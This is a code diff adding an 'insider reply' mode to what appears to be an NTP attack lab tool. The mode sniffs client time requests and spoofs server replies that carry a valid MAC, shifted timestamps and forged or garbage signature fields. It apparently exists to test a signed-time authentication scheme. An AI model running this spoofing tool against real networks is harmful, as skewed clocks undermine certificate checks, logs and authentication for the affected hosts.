@@ -158,6 +158,35 @@ enum Mode {
         #[arg(long, default_value_t = 40)]
         lead_ms: u64,
     },
+    /// An on-path insider against calibration: it holds the server's MAC
+    /// key and sees every request, so it answers each at once from the
+    /// server's address with a reply that echoes the cookie, carries a
+    /// valid MAC and times `--shift-ms` off. It cannot make the server's
+    /// signature, so the replies take turns: no signature field, a field
+    /// signed by its own Ed25519 key, and a field with the server's
+    /// fingerprint (`--public-key`) and a garbage signature.
+    InsiderReply {
+        #[command(flatten)]
+        limits: Limits,
+        /// The server the requests go to.
+        #[arg(long)]
+        server: Ipv4Addr,
+        /// Only requests from this client.
+        #[arg(long)]
+        client: Option<Ipv4Addr>,
+        /// The keys file holding the server's MAC key.
+        #[arg(long)]
+        keys: PathBuf,
+        /// The server's key id.
+        #[arg(long)]
+        key: u32,
+        /// The server's public key line (`ed25519:...`), for its fingerprint.
+        #[arg(long)]
+        public_key: String,
+        /// How far the forged receive and transmit times are off.
+        #[arg(long, default_value_t = 500, allow_hyphen_values = true)]
+        shift_ms: i64,
+    },
     /// Spoofed requests in a victim's name to a multicast or broadcast
     /// address, so every server there answers the victim.
     McastRequest {
@@ -306,6 +335,21 @@ fn run(mode: Mode) -> Result<Summary, String> {
             shift_ms,
             Duration::from_millis(lead_ms),
         ),
+        Mode::InsiderReply {
+            limits,
+            server,
+            client,
+            keys,
+            key,
+            public_key,
+            shift_ms,
+        } => insider_reply(
+            &limits,
+            (server, client),
+            (&keys, key),
+            &public_key,
+            shift_ms,
+        ),
         Mode::McastRequest {
             limits,
             victim,
@@ -379,6 +423,96 @@ fn insider(
                     due = None;
                 }
             }
+        }
+    }
+    Ok(s)
+}
+
+/// A reply to the request `request` echoing its cookie, `shift_ms` off
+/// our clock, with signature field variant `turn % 3` (see
+/// [`Mode::InsiderReply`]) and a valid MAC under `key`.
+fn forged_signed_reply(
+    request: &[u8],
+    shift_ms: i64,
+    turn: u64,
+    server_fp: mcast_keys::signed::Fingerprint,
+    own: &mcast_keys::signed::ServerKey,
+    key: &mcast_keys::Key,
+) -> Option<Vec<u8>> {
+    use mcast_proto::{Datagram, ExtensionField, Header, Mode as NtpMode, NtpTimestamp, RefId};
+    let req = Datagram::parse(request).ok()?;
+    let shift = mcast_proto::NtpDuration::from_seconds_f64(shift_ms as f64 / 1000.0);
+    let now = NtpTimestamp::from_bits(mcast_lab::attack::ntp_now()) + shift;
+    let mut h = Header::new(NtpMode::Server);
+    h.stratum = 2;
+    h.poll = req.header.poll;
+    h.precision = mcast_proto::Log2Seconds(-20);
+    h.reference_id = RefId::from_code("LIAR");
+    h.reference = now;
+    h.origin = req.header.transmit;
+    h.receive = now;
+    h.transmit = now;
+    let mut d = Datagram::new(h);
+    match turn % 3 {
+        0 => {}
+        1 => d.extensions.push(own.sign_reply_field(&h.to_bytes())),
+        _ => {
+            let mut value = own.sign_reply_field(&h.to_bytes()).value;
+            if let Some(fp) = value.get_mut(4..12) {
+                fp.copy_from_slice(&server_fp.0);
+            }
+            d.extensions.push(ExtensionField {
+                field_type: mcast_keys::signed::FIELD_TYPE,
+                value,
+            });
+        }
+    }
+    let mut out = Vec::new();
+    mcast_keys::packet::sign(key, &d, &mut out);
+    Some(out)
+}
+
+fn insider_reply(
+    l: &Limits,
+    (server, client): (Ipv4Addr, Option<Ipv4Addr>),
+    (keys, key_id): (&std::path::Path, u32),
+    public_key: &str,
+    shift_ms: i64,
+) -> Result<Summary, String> {
+    let store = mcast_keys::KeyStore::load(keys).map_err(|e| e.to_string())?;
+    let key = mcast_keys::KeyId::new(key_id)
+        .and_then(|id| store.get(id))
+        .ok_or_else(|| format!("key {key_id} is not in {}", keys.display()))?
+        .clone();
+    let server_fp = mcast_keys::signed::PublicKey::parse(public_key)
+        .map_err(|e| e.to_string())?
+        .fingerprint();
+    let own = mcast_keys::signed::ServerKey::from_seed(&[0x1e; 32]);
+    let b = bounds(l)?;
+    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
+    let spoof = io("raw socket", Spoofer::new())?;
+    eprintln!("ntp-attack: listening");
+    let mut s = summary("insider-reply");
+    while b.more(s.sent) {
+        let Some(p) = io("sniff", sniff.next_until(b.until()))? else {
+            break;
+        };
+        let wanted = *p.dst.ip() == server
+            && p.dst.port() == NTP
+            && client.is_none_or(|c| c == *p.src.ip())
+            && mode(&p.payload) == Some(3);
+        if !wanted {
+            continue;
+        }
+        s.seen += 1;
+        if let Some(bytes) =
+            forged_signed_reply(&p.payload, shift_ms, s.sent, server_fp, &own, &key)
+        {
+            io(
+                "send",
+                spoof.send(SocketAddrV4::new(server, NTP), p.src, &bytes),
+            )?;
+            s.sent += 1;
         }
     }
     Ok(s)
